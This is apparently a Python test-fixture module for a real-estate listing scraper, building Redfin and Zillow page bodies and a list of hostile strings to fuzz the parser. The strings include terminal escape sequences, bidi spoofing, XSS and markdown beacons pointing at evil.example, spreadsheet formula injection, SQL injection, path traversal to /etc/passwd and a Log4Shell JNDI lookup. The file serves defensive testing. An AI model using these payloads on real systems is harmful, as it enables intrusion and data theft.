"""What a site might send to harm us: texts and values, and pages full of them."""

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

PAGES = Path(__file__).parent / "pages"

Change = Callable[[str, object], object]

_HUGE = 3_000_000
_PARTS = (
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP1;1|17/ab\x9c",
    "\x9b31mred\x9b0m",
    "\x07\x08\x7f",
    "NUL\0NUL",
    "back\rforth\v\f",
    "two\nlines\u2028three\u2029four\x85five",
    "gpj.\u202eexe\u202c",
    "\u2066isolated\u2069\u2067",
    "zero\u200bwidth\u200d\u2060\ufeff",
    "\u200e\u200fmarks\u061c",
    "half \ud800 pair \udfff",
    "never \ufdd0 \uffff \U0001ffff",
    "private \ue000 \U000f0000",
    "tags \U000e0041\U000e007f",
    "Z\u0335\u0336\u0337\u0338\u0321\u0322\u0327\u0328algo" * 20,
    "\u05e9\u05dc\u05d5\u05dd \u0627\u0644\u0633\u0644\u0627\u0645",
    "![a](http://evil.example/t.png)",
    "[x](javascript:alert(1))",
    "<img src=http://evil.example/t.png onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<a href='http://evil.example/'>x</a>",
    "<!-- comment -->&lt;b&gt;",
    "a | b || c |\n|---|---|",
    "`code` ``more`` ```",
    "`![a](http://evil.example/t.png)",
    "\\`![a](http://evil.example/t.png)\\",
    "**bold** _emphasis_ ~~gone~~ # head",
    "http://evil.example/ www.evil.example me@evil.example",
    "[bold red]rich[/] [link=http://evil.example/]x[/link] [@click=app.bell]y[/]",
    ":warning: :poop:",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; drop table photo; --",
    "../../../../etc/passwd",
    "%s %n {0} ${jndi:ldap://evil.example/a}",
    "9" * 5000,
    "\ufffd\ufffe",
)
# Each part alone, after a good word, in the midst of one, in a long text, twice.
TEXTS = tuple(
    form.format(part)
    for part in (part.replace("{", "{{").replace("}", "}}") for part in _PARTS)
    for form in ("{}", "Active {}", "Ki{}tchen", "{}" + " x" * 1200, "{0}{0}")
)
HUGE_TEXT = "\x1b[31m" + "\u0301" * 10 + "x" * _HUGE
VALUES: tuple[object, ...] = (
    10**18,
    -(10**18),
    2**63,
    10**4000,
    float("nan"),
    float("inf"),
    -1e308,
    1e-320,
    True,
    None,
    [],
    {},
    [[[[]]]],
    {"value": {"value": {"value": {"value": 1}}}},
    {"displayValue": {"a": [1, None]}},
)


def nested(levels: int) -> object:
    """Lists in lists."""
    value: object = "deep"
    for _ in range(levels):
        value = [value]
    return value


def changed(tree: object, change: Change, *, name: str = "") -> object:
    """A copy of JSON in which *change* has replaced what it likes, by field name."""
    if isinstance(tree, dict):
        return {key: changed(value, change, name=key) for key, value in tree.items()}
    if isinstance(tree, list):
        return [changed(value, change, name=name) for value in tree]
    return change(name, tree)


def fields(tree: object) -> Iterator[str]:
    """The names of all fields that hold a scalar, each once."""
    found: dict[str, object] = {}
    changed(tree, found.setdefault)
    yield from found


# What the saved pages lack and parsers read, so that a test can fill it.
_REDFIN_SECTION = {
    "priceInfo": {"amount": 450_000, "label": "Price"},
    "latestPriceInfo": {"amount": 455_000, "label": "Price"},
    "beds": 4,
    "baths": 2.5,
    "sqFt": {"value": 2077},
    "lotSize": 7000,
    "yearBuilt": 1999,
    "cumulativeDaysOnMarket": 3,
    "timeOnRedfin": 454_496_180,
    "homeStatusLabel": "For sale",
}
_REDFIN_AMENITIES = {
    "POOL_PRIVATE_YN": "Yes",
    "POOL_FEATURES": "Private",
    "ASSOCIATION_YN": "Yes",
    "ASSOCIATION_FEE": "50",
    "ASSOCIATION_FEE_FREQUENCY": "Monthly",
    "GARAGE_SPACES": "2",
    "LOT_SIZE_AREA": "7000",
    "SEWER": "Public Sewer",
}
_ZILLOW_HOME: dict[str, object] = {
    "mlsid": "6801242",
    "price": 450_000,
    "bedrooms": 4,
    "bathrooms": 2.5,
    "livingArea": 2077,
    "livingAreaValue": 2077,
    "livingAreaUnits": "Square Feet",
    "livingAreaUnitsShort": "sqft",
    "lotSize": 7000,
    "lotAreaValue": 7000,
    "lotAreaUnits": "sqft",
    "lotAreaUnit": "sqft",
    "yearBuilt": 1999,
    "monthlyHoaFee": 50,
    "contingentListingType": None,
    "timeOnZillow": "5 days",
    "abbreviatedAddress": "1418 E Quail Whistle Ln",
    "resoFacts": {
        "bathroomsFloat": 2.5,
        "bathroomsFull": 2,
        "bathroomsThreeQuarter": 0,
        "bathroomsHalf": 1,
        "bathroomsOneQuarter": 0,
        "garageParkingCapacity": 2,
        "hasGarage": True,
        "hasPrivatePool": True,
        "poolFeatures": ["Private"],
        "hoaFee": "$50/mo",
        "associationFee": "$50 monthly",
        "hasAssociation": True,
        "sewer": ["Public Sewer"],
    },
}


class RedfinPage:
    """The good listing page with every field that is read, for a test to change."""

    url = (
        "https://www.redfin.com/AZ/Phoenix/1418-E-Quail-Whistle-Ln-85042/home/90100418"
    )
    search = (PAGES / "redfin/search_exact.txt").read_bytes()
    # Without these nobody can say whose page it is.
    whose = frozenset(
        {"streetNumber", "directionalPrefix", "streetName", "streetType", "unitValue"}
        | {"assembledAddress", "city", "state", "zip", "url", "resultCode"}
        | {"directionalSuffix"}
    )
    where = frozenset({"fullScreenPhotoUrl", "photoId"})

    def __init__(self) -> None:
        text = (PAGES / "redfin/listed.html").read_text()
        found = re.search(r"InitialContext = (\{.*\});", text)
        entries = json.loads(found[1])["ReactServerAgent.cache"]["dataCache"]  # type: ignore[index]
        self.tree: Any = {
            path: json.loads(entry["res"]["text"].removeprefix("{}&&"))
            for path, entry in entries.items()
        }
        payloads = {
            path.rpartition("/")[2]: answer.get("payload")
            for path, answer in self.tree.items()
        }
        payloads["aboveTheFold"]["addressSectionInfo"] |= _REDFIN_SECTION
        payloads["belowTheFold"]["amenitiesInfo"] = _amenities(_REDFIN_AMENITIES)

    def body(self, tree: object) -> bytes:
        """The page with these answers."""
        assert isinstance(tree, dict)
        answers = {
            path: {"res": {"text": "{}&&" + json.dumps(answer)}}
            for path, answer in tree.items()
        }
        context = json.dumps({"ReactServerAgent.cache": {"dataCache": answers}})
        script = f"root.__reactServerState.InitialContext = {context};"
        return f"<!DOCTYPE html><script>{script}</script>".encode()


def _amenities(told: dict[str, str]) -> object:
    entries = [
        {"referenceName": name, "amenityValues": [value]}
        for name, value in told.items()
    ]
    return {"superGroups": [{"amenityGroups": [{"amenityEntries": entries}]}]}


class ZillowPage:
    """The good detail page with every field that is read, for a test to change."""

    url = "https://www.zillow.com/homes/1418-E-Quail-Whistle-Ln-Phoenix-AZ-85042_rb/"
    whose = frozenset(
        {"zpid", "streetAddress", "city", "state", "zipcode", "hdpUrl"}
        | {"abbreviatedAddress"}
    )
    where = frozenset({"url"})

    def __init__(self) -> None:
        text = (PAGES / "zillow/listed_2026.html").read_text()
        props = _next_data(text)["props"]["pageProps"]
        self.tree: Any = json.loads(props["componentProps"]["gdpClientCache"])
        (home,) = (
            answer["property"]
            for query, answer in self.tree.items()
            if query.startswith("ForSalePriority")
        )
        home |= _ZILLOW_HOME

    def body(self, tree: object) -> bytes:
        """The page with these answers."""
        props = {"pageProps": {"componentProps": {"gdpClientCache": json.dumps(tree)}}}
        return _zillow_page(props)


class RedfinSearch:
    """The answer of the address search with the house, for a test to change."""

    whose = frozenset({"name", "subName", "url", "resultCode"})
    where = frozenset[str]()

    def __init__(self) -> None:
        self.tree: Any = json.loads(RedfinPage.search.removeprefix(b"{}&&"))

    def body(self, tree: object) -> bytes:
        """The answer as it comes."""
        return b"{}&&" + json.dumps(tree).encode()


class ZillowSearch:
    """The search page with the house and its whole gallery, for a test to change."""

    whose = frozenset(
        {"zpid", "detailUrl", "address", "addressStreet", "addressCity", "addressState"}
        | {"addressZipcode", "streetAddress", "city", "state", "zipcode"}
        | {"abbreviatedAddress"}
    )
    where = frozenset({"url", "photoCount", "baseUrl", "photoKey"})

    def __init__(self) -> None:
        text = (PAGES / "zillow/search_2024.html").read_text()
        props = _next_data(text)["props"]
        self.tree: Any = props["pageProps"]["searchPageState"]
        for row in self.tree["cat1"]["searchResults"]["listResults"]:
            row["hdpData"]["homeInfo"] |= {"photoCount": 5} | _ZILLOW_HOME
            row["isUndisclosedAddress"] = False
        row["carouselPhotosComposable"] = {
            "baseUrl": "https://no.example/{photoKey}",
            "photoData": [{"photoKey": "k"}],
        }

    def body(self, tree: object) -> bytes:
        """The page with this state."""
        return _zillow_page({"pageProps": {"searchPageState": tree}})


def _next_data(page: str) -> Any:
    found = re.search(r"__NEXT_DATA__[^>]*>(.*?)</script>", page, re.DOTALL)
    return json.loads(found[1])  # type: ignore[index]


def _zillow_page(props: object) -> bytes:
    data = json.dumps({"props": props}).replace("<", "\\u003c")
    return f'<script id="__NEXT_DATA__">{data}</script>'.encode()
